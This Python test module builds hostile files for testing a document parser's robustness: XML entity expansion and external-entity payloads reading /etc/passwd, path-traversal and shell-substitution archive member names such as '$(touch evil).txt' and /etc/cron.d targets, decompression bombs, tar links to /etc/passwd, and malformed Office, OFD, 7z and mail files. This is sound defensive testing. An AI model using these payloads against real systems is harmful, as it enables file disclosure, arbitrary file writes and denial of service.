"""Hostile packages: archives, Office files, OFD, mails."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

import py7zr
from docx.oxml.ns import nsdecls

from tests import onesample
from tests.compounds import compound, message
from tests.hostile.originals import boxed, originals, sevenzipped, tarred
from tests.readingsamples import docx_body, docx_bytes, package, xlsx_bytes

BILLION = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "哈哈哈哈哈哈哈哈哈哈">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11))
    + "]>"
)
EXTERNAL = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "http://192.0.2.1/x">]>'
)
PARAMETER = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>'
QUADRATIC = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + "哈" * 50_000 + '">]>'
MAIN_PARTS = {
    "x.docx": "word/document.xml", "plan.docx": "word/numbering.xml", "x.xlsx": "xl/worksheets/sheet1.xml", "g.ods": "content.xml",
    "plan.ofd": "OFD.xml",
}  # fmt: skip
TRAVERSALS = (
    "../../../../tmp/evil.txt", "/etc/cron.d/evil", "..\\..\\evil.txt", "C:\\Windows\\evil.txt", "\\\\host\\share\\evil.txt", "a/../../b.txt",
    "con.txt", "a:b.txt", "~/evil.txt", "%2e%2e%2fevil.txt", "x\0y.txt", "名\n字.txt", "\u202etxt.exe", "-rf.txt", "$(touch evil).txt", "a" * 3000,
)  # fmt: skip


def replaced(data: bytes, member: str, content: bytes) -> bytes:
    """A package with one member changed."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    return package({**members, member: content})


def packages() -> Iterator[tuple[str, bytes]]:
    """(name, bytes)"""
    yield from entities()
    yield from archives()
    yield from bombs()
    yield from structures()
    yield from mails()
    yield from sevenzips()
    yield from messages()


def sevenzips() -> Iterator[tuple[str, bytes]]:
    """7z archives that lie, swell, lead out or are locked."""
    sound = sevenzipped()
    yield "locked.7z", sevenzipped("secret", **{"a.txt": b"abc"})
    yield "flat.7z", sevenzipped(**{"zeros.txt": bytes(200 << 20)})
    yield "many.7z", sevenzipped(**{f"{n}.txt": b"x" for n in range(2500)})
    nested = sound
    for _ in range(6):
        nested = sevenzipped(**{"inner.7z": nested})
    yield "nested.7z", nested
    for place in (6, 8, 12, 20, 28):  # version, checksums, place and size of the directory
        yield f"start-{place}.7z", sound[:place] + b"\xff\xff\xff\x7f" + sound[place + 4 :]
    for name in ("../../../../tmp/evil.txt", "/etc/cron.d/evil"):
        out = io.BytesIO()
        with py7zr.SevenZipFile(out, "w", filters=[{"id": py7zr.FILTER_COPY}]) as archive:
            archive.set_encoded_header_mode(False)
            archive.writestr(b"evil", "X" * len(name))
        raw = out.getvalue().replace(("X" * len(name)).encode("utf-16-le"), name.encode("utf-16-le"))
        at, size = struct.unpack_from("<QQ", raw, 12)
        directory = raw[32 + at : 32 + at + size]
        start = struct.pack("<QQI", at, size, zlib.crc32(directory))
        yield f"out-{len(name)}.7z", raw[:8] + struct.pack("<I", zlib.crc32(start)) + start + raw[32:]


def messages() -> Iterator[tuple[str, bytes]]:
    """Outlook messages that nest, share sectors or name their attachments oddly."""
    inner = message("内", "6月底前完成")
    for _ in range(12):
        inner = message("外/..", "7月底前完成", attachments={"x": inner})
    yield "deep.msg", compound(inner)
    yield "names.msg", compound(message("名", "8月底前完成", attachments=dict.fromkeys(TRAVERSALS[:14], b"6")))
    yield "bodyless.msg", compound(message("无正文"))
    whole = compound(message("环", "9月底前完成投资3亿元。" * 400))
    at = int.from_bytes(whole[76:80], "little") * 512 + 512
    yield "fat-loop.msg", whole[:at] + struct.pack("<I", 0) * 64 + whole[at + 256 :]


def entities() -> Iterator[tuple[str, bytes]]:
    """Document types put before the parts of every XML format."""
    for name, member in MAIN_PARTS.items():
        data = originals()[name]
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            part = archive.read(member)
        body = part[part.index(b"?>") + 2 :] if part.startswith(b"<?xml") else part
        stem, _, suffix = name.rpartition(".")
        for label, head, use in (
            ("billion", BILLION, "&a10;"), ("external", EXTERNAL, "&e;&h;"), ("parameter", PARAMETER, ""), ("quadratic", QUADRATIC, "&a;" * 5000),
        ):  # fmt: skip
            at = body.rindex(b"</")
            yield (
                f"xml-{label}-{stem}.{suffix}",
                replaced(data, member, head.encode() + body[:at] + use.encode() + body[at:]),
            )
        for label, content in (
            ("empty", b""), ("text", b"not xml"), ("open", part[: len(part) // 2]), ("zeros", b"\0" * 5000), ("utf16", part.decode().encode("utf-16")),
            ("deep", b"<a>" * 200_000),
        ):  # fmt: skip
            yield f"part-{label}-{stem}.{suffix}", replaced(data, member, content)
    yield "billion.html", BILLION.encode() + b"<html><p>&a10;</p></html>"
    yield "external.txt", EXTERNAL.encode() + b"<x>&e;</x>"


def archives() -> Iterator[tuple[str, bytes]]:
    """Names that lead elsewhere, names in GBK, members that lie."""
    text = onesample.txt()
    for number, name in enumerate(TRAVERSALS):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr(zipfile.ZipInfo(name), text + b"%d" % number)
        yield f"traversal-{number}.zip", out.getvalue()
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w") as tar:
            entry = tarfile.TarInfo(name.replace("\0", ""))
            entry.size = len(text)
            tar.addfile(entry, io.BytesIO(text))
        yield f"traversal-{number}.tar", out.getvalue()
    name = "甲/计划.txt".encode("gb18030")
    fake = b"x" * len(name)
    yield "gbk-name.zip", package({fake.decode(): text}).replace(fake, name)
    yield "same-names.zip", same_names(text)
    yield "empty.zip", package({})
    yield "folders.zip", package({"a/": b"", "b/": b""})
    yield "system-files.zip", package({"__MACOSX/._a.txt": b"x", "Thumbs.db": b"y"})
    sound = boxed()
    yield "encrypted.zip", flagged(sound, 1)
    yield (
        "method-99.zip",
        sound.replace(struct.pack("<HH", 20, 0), struct.pack("<HH", 20, 0)).replace(b"\x08\x00", b"\x63\x00"),
    )
    yield "bad-crc.zip", sound[:60] + b"\xff\xff" + sound[62:]
    yield "lying-size.zip", lying(text)
    yield "prefixed.zip", b"MZ" + b"\0" * 500 + sound
    yield "many.zip", package({f"{n}.txt": b"%d" % n for n in range(3000)})
    links = io.BytesIO()
    with tarfile.open(fileobj=links, mode="w") as tar:
        for number, kind in enumerate(
            (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.FIFOTYPE, tarfile.CHRTYPE, tarfile.BLKTYPE)
        ):
            entry = tarfile.TarInfo(f"link{number}")
            entry.type, entry.linkname = kind, "/etc/passwd"
            tar.addfile(entry)
    yield "links.tar", links.getvalue()
    huge = tarfile.TarInfo("huge.txt")
    huge.size = 1 << 40
    yield "huge-header.tar", huge.tobuf() + b"x" * 1024
    yield "tar.tar.bz2", tarred("w:bz2")
    yield "tar.tar.xz", tarred("w:xz")


def same_names(text: bytes) -> bytes:
    """Two members of one name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(2):
            info = zipfile.ZipInfo("a.txt" if number else "b.txt")
            archive.writestr(info, text + b"%d" % number)
    return out.getvalue().replace(b"b.txt", b"a.txt")


def flagged(data: bytes, bit: int) -> bytes:
    """A zip whose members all have a flag set, in both headers."""
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(signature)
        while at >= 0:
            out[at + offset] |= bit
            at = out.find(signature, at + 4)
    return bytes(out)


def lying(text: bytes) -> bytes:
    """A zip whose directory says that a large member is small."""
    data = bytearray(package({"a.txt": text * 2000}))
    at = data.find(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(data)


def bombs() -> Iterator[tuple[str, bytes]]:
    """Little that becomes much."""
    zeros = b"\0" * (34 << 20)
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for n in range(16):
            archive.writestr(f"{n}.txt", zeros)
    yield "flat.zip", packed.getvalue()
    nested = package({"a.txt": b"7\xe6\x9c\x88"})
    for _ in range(12):
        nested = package({"inner.zip": nested})
    yield "nested.zip", nested
    yield "zeros.gz", gzip.compress(zeros)
    yield "twice.gz", gzip.compress(gzip.compress(zeros))
    yield "zeros.txt.bz2", __import__("bz2").compress(zeros)
    yield "zeros.txt.xz", __import__("lzma").compress(zeros)
    yield "memory.xz", b"\xfd7zXZ\0" + b"\x00\x04\xe6\xd6\xb4F\x02\x00!\x01(\x00" + b"\0" * 40
    body = "".join("<w:p><w:r><w:t>" + "6月底前完成投资3亿元。" * 50 + "</w:t></w:r></w:p>" for _ in range(40))
    yield "long.docx", docx_body(body)
    yield "blank.docx", replaced(docx_bytes(), "word/document.xml", b" " * (130 << 20))
    yield "strings.xlsx", replaced(xlsx_bytes(), "xl/sharedStrings.xml", b" " * (60 << 20))
    yield "quine.gz", b"\x1f\x8b\x08\0\0\0\0\0\0\3" + zlib.compress(b"x")[2:-4] * 50


def structures() -> Iterator[tuple[str, bytes]]:
    """Office files that contradict themselves."""
    text = "<w:p><w:r><w:t>6月底前完成投资3亿元</w:t></w:r></w:p>"
    word = f"<w:document {nsdecls('w')}><w:body>{{}}</w:body></w:document>"
    deep = word.format("<w:tbl><w:tr><w:tc>" * 3000 + text + "</w:tc></w:tr></w:tbl>" * 3000)
    yield "deep-tables.docx", replaced(docx_bytes(), "word/document.xml", deep.encode())
    yield (
        "span.docx",
        docx_body(
            f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="99999"/></w:tcPr>{text}</w:tc><w:tc>{text}</w:tc></w:tr></w:tbl>'
        ),
    )
    yield (
        "negative.docx",
        docx_body(f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="-5"/></w:tcPr>{text}</w:tc></w:tr></w:tbl>'),
    )
    remote = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" TargetMode="External" '
    remote += 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://192.0.2.1/t.dotm"/></Relationships>'
    yield "remote-template.docx", replaced(docx_bytes(), "word/_rels/settings.xml.rels", remote.encode())
    sheet = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData>{}</worksheet>'
    cell = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>投资3亿元</t></is></c></row>'
    yield "far.xlsx", replaced(xlsx_bytes(), "xl/worksheets/sheet1.xml", sheet.format(cell, "").encode())
    yield (
        "index.xlsx",
        replaced(
            xlsx_bytes(),
            "xl/worksheets/sheet1.xml",
            sheet.format('<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>', "").encode(),
        ),
    )
    merges = '<mergeCells><mergeCell ref="A1:XFD1048576"/>' + '<mergeCell ref="A1:ZZ9999"/>' * 2000 + "</mergeCells>"
    yield "merges.xlsx", replaced(xlsx_bytes(), "xl/worksheets/sheet1.xml", sheet.format(cell, merges).encode())
    ofd = originals()["plan.ofd"]
    loop = '<ofd:Page xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Template TemplateID="1"/><ofd:Content/></ofd:Page>'
    yield "template-loop.ofd", replaced(ofd, "Doc_0/Pages/Page_0/Content.xml", loop.encode())
    yield (
        "traversal.ofd",
        replaced(ofd, "OFD.xml", b'<ofd:OFD xmlns:ofd="x"><ofd:DocRoot>../../etc/passwd</ofd:DocRoot></ofd:OFD>'),
    )
    many = "<ofd:TextCode X='0' Y='4' DeltaX='g 99999999 4'>投资3亿元</ofd:TextCode>" * 3000
    page = f'<ofd:Page xmlns:ofd="x"><ofd:TextObject Boundary="0 0 1e99 nan">{many}</ofd:TextObject></ofd:Page>'
    yield "deltas.ofd", replaced(ofd, "Doc_0/Pages/Page_0/Content.xml", page.encode())
    rules = "".join(
        f"<ofd:PathObject Boundary='0 0 9 9'><ofd:AbbreviatedData>{f'M 0 {n} L 900 {n} ' * 20}</ofd:AbbreviatedData></ofd:PathObject>"
        for n in range(900)
    )
    yield (
        "rules.ofd",
        replaced(ofd, "Doc_0/Pages/Page_0/Content.xml", f'<ofd:Page xmlns:ofd="x">{rules}</ofd:Page>'.encode()),
    )


def mails() -> Iterator[tuple[str, bytes]]:
    """Mails whose parts or headers do not hold together."""
    head = b"From: a@b.invalid\r\nTo: c@d.invalid\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
    text = "6月底前完成投资3亿元。\r\n".encode()
    deep = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(400))
    yield "deep.eml", head + deep + b"Content-Type: text/plain\r\n\r\n" + text
    yield "no-boundary.eml", head + b"Content-Type: multipart/mixed\r\n\r\n" + text
    yield "charset.eml", head + b"Content-Type: text/plain; charset=nonsense\r\n\r\n" + text
    yield (
        "base64.eml",
        head
        + b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!====\r\n"
        + text,
    )
    yield (
        "parts.eml",
        head + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\nx\r\n" * 5000 + b"--b--",
    )
    for number, name in enumerate(
        ("../../evil.txt", "=?utf-8?b?!!!?=", "=?x?q?a?=", "a\r\n b.txt", '"', "=?gb2312?B?" + "vMa7rg" * 300 + "?=")
    ):
        body = f"--b\r\nContent-Type: text/plain\r\n\r\n看附件\r\n--b\r\nContent-Disposition: attachment; filename={name}\r\n\r\n".encode()
        yield (
            f"name-{number}.eml",
            head + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + body + text + b"--b--\r\n",
        )
    inner = head + b"\r\n" + text
    for _ in range(10):
        inner = head + b"Content-Type: message/rfc822\r\n\r\n" + inner
    yield "forwarded.eml", inner
    yield "headers.eml", head + b"X-A: b\r\n" * 100_000 + b"\r\n" + text
    yield (
        "open.mht",
        head + b"Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>" + text,
    )
